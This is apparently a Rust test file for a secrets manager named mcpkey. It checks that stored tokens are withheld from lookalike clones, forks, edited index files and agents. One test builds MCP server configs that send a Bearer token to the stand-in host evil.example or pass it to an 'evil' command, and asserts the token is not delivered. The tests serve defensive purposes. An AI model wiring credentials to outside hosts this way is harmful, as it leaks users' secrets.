//! What claims to be the same repository, and what only looks like it.

use super::*;

#[test]
fn a_clone_with_the_same_remote_gets_nothing_without_an_answer() {
    let (mut world, token) = stored(REMOTE);
    go(&mut world, "evil");
    clone(&world, REMOTE);
    world.mcpkey(&["doctor", "--fix", "--offline"]);
    let ran = world.mcpkey(&RUN).gives(125);
    assert!(!ran.said().contains(&token));
    assert_eq!(directories(&world), ["old"]);
    // Nor where the first directory is gone: a remote is only said.
    std::fs::remove_dir_all(world.home.join("old")).unwrap();
    let page = world.mcpkey(&["doctor", "--fix", "--offline"]);
    assert!(page.stdout.contains(&format!("{OFFER} ~/old")), "{}", page.said());
    world.mcpkey(&RUN).gives(125);
    assert_eq!(directories(&world), ["old"]);
}

#[test]
fn another_destination_gets_nothing_at_all() {
    let (mut world, token) = stored(REMOTE);
    go(&mut world, "evil");
    clone(&world, REMOTE);
    let servers = [
        json!({"web": {"type": "http", "url": "https://evil.example/mcp",
            "headers": {"Authorization": "Bearer ${TOKEN}"}}}),
        json!({"web": {"command": "evil", "env": {"TOKEN": "${TOKEN}"}}}),
        // The one that it is stored for, and another beside it.
        json!({"web": bearer("TOKEN"), "second": {"command": "evil", "env": {"TOKEN": "${TOKEN}"}}}),
        json!({"other": bearer("TOKEN")}),
    ];
    for entries in servers {
        configure(&world, &entries);
        nothing_is_offered(&world);
        let ran = world.mcpkey(&["set", "TOKEN", "--from-project", "~/old"]).gives(1);
        assert!(!ran.said().contains(&token), "{entries}");
        world.mcpkey(&["doctor", "--fix", "--offline"]);
        assert_eq!(directories(&world), ["old"], "{entries}");
    }
}

#[test]
fn a_fork_another_host_a_path_and_no_remote_are_other_repositories() {
    let remotes =
        ["https://git.example.com/eve/shop", "https://git.example.org/acme/shop", "/srv/git/shop.git", ""];
    for remote in remotes {
        let (mut world, _) = stored(REMOTE);
        go(&mut world, "other");
        clone(&world, remote);
        nothing_is_offered(&world);
    }
    // Two that come from the same path of this machine, or from nowhere.
    for remote in ["../origin.git", ""] {
        let (mut world, token) = stored(remote);
        go(&mut world, "new");
        clone(&world, remote);
        nothing_is_offered(&world);
        // A person can still name the directory.
        world.mcpkey(&["set", "TOKEN", "--from-project", "~/old"]).ok();
        assert_eq!(world.delivered("TOKEN"), token);
    }
}

#[test]
fn an_agent_can_take_nothing() {
    let (mut world, _) = stored(REMOTE);
    rename(&mut world, "new");
    world.set("CLAUDECODE", "1");
    let ran = world.mcpkey(&["set", "TOKEN", "--from-project", "~/old"]).gives(2);
    assert!(ran.stderr.contains("an agent cannot bring TOKEN"), "{}", ran.said());
    world.mcpkey(&["doctor", "--fix", "--offline"]);
    assert_eq!(directories(&world), ["old"]);
}

#[test]
fn an_edited_index_changes_nothing() {
    let (mut world, token) = stored(REMOTE);
    go(&mut world, "evil");
    clone(&world, "https://git.example.com/eve/shop");
    let index = world.home.join("mcpkey/secrets.toml");
    let text = world.read(&index).replace("git.example.com/acme/shop", "git.example.com/eve/shop");
    std::fs::write(&index, text).unwrap();
    let mut terminal = Terminal::mcpkey(&world, &RUN);
    terminal.sees("use it here?");
    terminal.types("y");
    let ended = terminal.ends();
    assert!(ended.code != 0 && !ended.screen.contains(&token), "{ended:?}");
    assert_eq!(directories(&world), ["old"]);
}

#[test]
fn an_edited_index_does_not_make_a_renamed_clone_of_another() {
    let (mut world, token) = stored(REMOTE);
    go(&mut world, "evil");
    clone(&world, REMOTE);
    let own = canary();
    world.write_json("sub/.mcp.json", &json!({"mcpServers": {"own": bearer("OWN")}}));
    let sub = world.project.join("sub");
    run(world.mcpkey_command(&["set", "OWN", "--stdin"]).current_dir(sub), own.as_bytes()).ok();
    std::fs::remove_dir_all(world.home.join("old")).unwrap();
    let index = world.home.join("mcpkey/secrets.toml");
    let text = world.read(&index);
    let births: Vec<&str> = text.lines().filter(|line| line.starts_with("birth = ")).collect();
    if let [old, evil] = births[..] {
        std::fs::write(&index, text.replace(old, evil)).unwrap();
        let ran = world.mcpkey(&["doctor", "--fix", "--offline"]).says(&["could not move TOKEN here"]);
        assert!(!ran.said().contains(&token));
        world.mcpkey(&RUN).gives(125);
    }
}

#[test]
fn what_git_hands_to_a_hook_does_not_make_another_repository_of_this_one() {
    let (mut world, _) = stored(REMOTE);
    let first = go(&mut world, "other");
    clone(&world, "");
    world.set("GIT_DIR", first.join(".git"));
    nothing_is_offered(&world);
}
